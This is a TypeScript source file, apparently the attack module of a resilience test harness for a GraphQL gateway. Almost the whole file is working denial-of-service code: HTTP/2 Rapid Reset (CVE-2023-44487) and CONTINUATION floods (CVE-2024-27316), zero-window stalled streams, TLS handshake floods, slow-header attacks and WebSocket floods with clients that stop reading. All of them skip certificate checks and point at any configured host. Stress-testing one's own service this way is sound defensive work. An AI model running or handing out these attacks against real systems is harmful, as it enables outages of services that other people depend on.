/**
 * Attacks by a client of another address. attacker.ts runs them in a container that has only Node and the library `ws`, so this file
 * imports nothing else.
 */
import { once } from "node:events";
import { connect as connectHttp2, constants } from "node:http2";
import { Agent, request } from "node:https";
import { setTimeout as sleep } from "node:timers/promises";
import { connect as connectTls, type TLSSocket } from "node:tls";
import { WebSocket } from "ws";

/** One kind of traffic, repeated until its time is over. `atOnce` is the number of concurrent connections. */
export type Attack = { readonly name: string; readonly atOnce: number } & (
  | { readonly kind: "requests"; readonly path: string; readonly bodies: readonly string[] }
  /** TLS handshakes without a request. */
  | { readonly kind: "handshakes" }
  /** HTTP/2 connections that keep 100 requests open. */
  | { readonly kind: "streams"; readonly path: string; readonly body: string }
  /** The same with a window of no bytes, so that the gateway keeps the replies. */
  | { readonly kind: "stalled"; readonly path: string; readonly body: string }
  /** HTTP/2 streams that are reset at once (CVE-2023-44487). */
  | { readonly kind: "resets" }
  /** HTTP/2 headers without an end (CVE-2024-27316). */
  | { readonly kind: "continuations" }
  /** A header that arrives in pieces. */
  | { readonly kind: "slow headers" }
  /** WebSockets that send all messages, with a token only after `connection_ack`. `reads` is false for a client that stops reading then. */
  | { readonly kind: "sockets"; readonly messages: readonly string[]; readonly reads: boolean }
);

export interface Plan {
  readonly host: string;
  readonly port: number;
  /** Absent: not authenticated. */
  readonly token?: string;
  /** Milliseconds since 1970; default: at once. */
  readonly startsAt?: number;
  /** Duration of each attack. */
  readonly seconds: number;
  readonly attacks: readonly Attack[];
}

type Turn = (until: number) => Promise<void>;

/** Runs one attack for its time. Errors of connections are expected: the service cuts them. */
export async function run(attack: Attack, plan: Plan): Promise<void> {
  const until = performance.now() + plan.seconds * 1_000;
  const turn = turnOf(attack, plan);
  await Promise.all(
    Array.from({ length: attack.atOnce }, async () => {
      while (performance.now() < until) {
        const begin = performance.now();
        await Promise.race([turn(until).catch(() => undefined), sleep(until - begin, undefined, { ref: false })]);
        // Prevents a busy loop when the service rejects every request immediately.
        if (performance.now() - begin < 1) await sleep(1);
      }
    }),
  );
}

function turnOf(attack: Attack, plan: Plan): Turn {
  const { host, port, token } = plan;
  const authorization = token === undefined ? {} : { authorization: `Bearer ${token}` };
  switch (attack.kind) {
    case "requests": {
      const agent = new Agent({ keepAlive: true, maxSockets: attack.atOnce, rejectUnauthorized: false });
      let next = 0;
      return async () => {
        const body = attack.bodies[next++ % attack.bodies.length] ?? "";
        const headers = {
          "content-type": "application/json",
          "content-length": Buffer.byteLength(body),
          ...authorization,
        };
        const asked = request({ host, port, agent, method: "POST", path: attack.path, headers });
        asked.end(body);
        const [response] = await once(asked, "response");
        response.resume();
        await once(response, "end");
      };
    }
    case "handshakes":
      return async () => {
        const socket = connectTls({ host, port, rejectUnauthorized: false });
        await once(socket, "secureConnect");
        socket.destroy();
      };
    case "streams":
    case "stalled":
      return async (until) => {
        const settings = attack.kind === "stalled" ? { initialWindowSize: 0 } : {};
        const session = connectHttp2(`https://${host}:${port}`, { rejectUnauthorized: false, settings });
        session.on("error", () => undefined);
        // Before it knows the bound, Node sends all requests at once. The gateway refuses the others, which would end the connection here.
        await Promise.race([once(session, "remoteSettings"), once(session, "close")]);
        const headers = {
          ":method": "POST",
          ":path": attack.path,
          "content-type": "application/json",
          ...authorization,
        };
        const requests = Array.from({ length: 100 }, async () => {
          while (performance.now() < until && !session.closed) {
            const stream = session.request(headers);
            stream.resume().end(attack.body);
            await once(stream, "close");
          }
        });
        await Promise.all(requests).finally(() => session.destroy());
      };
    case "resets":
      return async (until) => {
        const session = connectHttp2(`https://${host}:${port}`, { rejectUnauthorized: false });
        session.on("error", () => undefined);
        await once(session, "connect");
        while (performance.now() < until && !session.destroyed) {
          for (let index = 0; index < 100; index += 1) {
            const stream = session.request({ ":method": "POST", ":path": "/api/graphql", ...authorization });
            stream.on("error", () => undefined);
            stream.close(constants.NGHTTP2_CANCEL);
          }
          await sleep(1);
        }
        session.destroy();
      };
    case "continuations":
      return async (until) => {
        const socket = connectTls({ host, port, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
        await once(socket, "secureConnect");
        socket
          .resume()
          .write(
            Buffer.concat([
              Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
              frame(settingsFrame, 0, 0, Buffer.alloc(0)),
              frame(headersFrame, 0, 1, literalHeader),
            ]),
          );
        while (performance.now() < until && socket.writable)
          await written(
            socket,
            frame(continuationFrame, 0, 1, Buffer.concat(Array.from({ length: 100 }, () => literalHeader))),
          );
        socket.destroy();
      };
    case "slow headers":
      return async (until) => {
        const socket = connectTls({ host, port, rejectUnauthorized: false });
        await once(socket, "secureConnect");
        socket.resume().write("POST /api/graphql HTTP/1.1\r\nHost: a\r\n");
        while (performance.now() < until && socket.writable) {
          await sleep(500);
          await written(socket, Buffer.from("X-A: a\r\n"));
        }
        socket.destroy();
      };
    default:
      return (until) => overSocket(attack, plan, until);
  }
}

async function overSocket(
  { messages, reads }: Extract<Attack, { kind: "sockets" }>,
  { host, port, token }: Plan,
  until: number,
): Promise<void> {
  const socket = new WebSocket(`wss://${host}:${port}/api/graphql`, "graphql-transport-ws", {
    rejectUnauthorized: false,
  });
  const closed = once(socket, "close");
  closed.catch(() => undefined);
  socket.on("error", () => undefined);
  await once(socket, "open");
  if (token !== undefined) {
    socket.send(
      JSON.stringify({ type: "connection_init", payload: { headers: { authorization: `Bearer ${token}` } } }),
    );
    await once(socket, "message");
  }
  for (const message of messages) socket.send(message);
  if (!reads) socket.pause();
  await Promise.race([closed, sleep(reads ? 1_000 : until - performance.now(), undefined, { ref: false })]);
  socket.terminate();
}

/** Resolves when the socket accepts more bytes. @throws when it is closed */
async function written(socket: TLSSocket, bytes: Buffer): Promise<void> {
  if (!socket.write(bytes)) await Promise.race([once(socket, "drain"), once(socket, "close")]);
}

// RFC 9113, 6: types of frames.
const headersFrame = 1;
const settingsFrame = 4;
const continuationFrame = 9;

/** RFC 7541, 6.2.2: a literal header without indexing, `x-a: …`. */
const literalHeader = Buffer.concat([
  Buffer.from([0, 3]),
  Buffer.from("x-a"),
  Buffer.from([100]),
  Buffer.alloc(100, "a"),
]);

/** RFC 9113, 4.1. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
